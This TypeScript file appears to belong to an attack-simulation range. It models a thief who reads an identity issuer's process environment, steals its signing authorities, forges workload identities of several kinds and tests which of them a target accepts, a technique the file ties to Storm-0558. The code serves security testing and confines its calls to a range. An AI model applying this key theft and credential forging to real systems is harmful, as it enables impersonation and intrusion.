import { AgentClient } from '@blastradius/credentials';
import { assertInRange } from '../../engine/range-only.ts';
import { ProcessView } from '../../host/process-view.ts';
import { type Credential, presentedAs } from '../../loot/credential.ts';
import { presenterOf } from '../../loot/presenter-of.ts';
import { RogueAuthority } from '../../playbooks/moltbook/rogue-authority.ts';
import { partOf } from '../../playbooks/moltbook/techniques.ts';
import type { Thief } from '../../playbooks/moltbook/thief.ts';
import type { OpenLeak } from '../leak-act.ts';
import { type MintedKind, mintIdentities, namesIn } from './mint-identities.ts';
import { type StolenAuthorities, stealAuthorities } from './stolen-authorities.ts';

const KINDS: readonly MintedKind[] = ['x509-svid', 'jwt-svid', 'wit-svid', 'bound-access-token'];

/**
 * A dump of the issuer's process, once (as the crash dump that led to Storm-0558): by what is in it the thief
 * opens the stored keys, and makes itself whoever it likes for as long as they are believed.
 */
export const openIssuerSigningKey: OpenLeak<'issuer-signing-key'> = ({ pid }, thief) => {
  let isDone = false;
  return {
    look: async () => {
      if (isDone) return { credentials: [] };
      const stolen = await stealAuthorities(await new ProcessView([pid]).environment(pid));
      isDone = true;
      const names = namesIn(stolen, thief.publicNames);
      const kinds = await believedKinds(stolen, names[0], thief);
      const minted = await Promise.all(
        names.flatMap((name) => kinds.map((kind) => mintIdentities(stolen, kind, name))),
      );
      return { credentials: minted.flat(), rows: minted.length };
    },
  };
};

/** What does the door look at? One of each kind is shown there; where none is believed, all are to be tried. */
async function believedKinds(
  stolen: StolenAuthorities,
  name: string | undefined,
  thief: Thief,
): Promise<readonly MintedKind[]> {
  if (name === undefined) return [];
  const believed: MintedKind[] = [];
  for (const kind of KINDS) {
    const [credential] = await mintIdentities(stolen, kind, name);
    if (credential && (await opens(credential, name, thief))) believed.push(kind);
  }
  return believed.length > 0 ? believed : KINDS;
}

async function opens(credential: Credential, name: string, thief: Thief): Promise<boolean> {
  const { origin } = await assertInRange(thief.networkUrl);
  const presenter = await presenterOf(credential, new RogueAuthority());
  const client = new AgentClient({ networkUrl: origin, presenter });
  try {
    const answer = await thief.attempts.make(
      {
        ...partOf('validate-loot'),
        vector: 'stolen-credential',
        action: 'validate',
        forges: false,
        victim: name.slice(name.lastIndexOf('/') + 1),
        presented: presentedAs(credential),
      },
      () => client.me(),
      ({ requestId, outcome, status }) => ({ requestId, outcome, status }),
    );
    return answer.outcome === 'accepted';
  } finally {
    await client.close();
  }
}
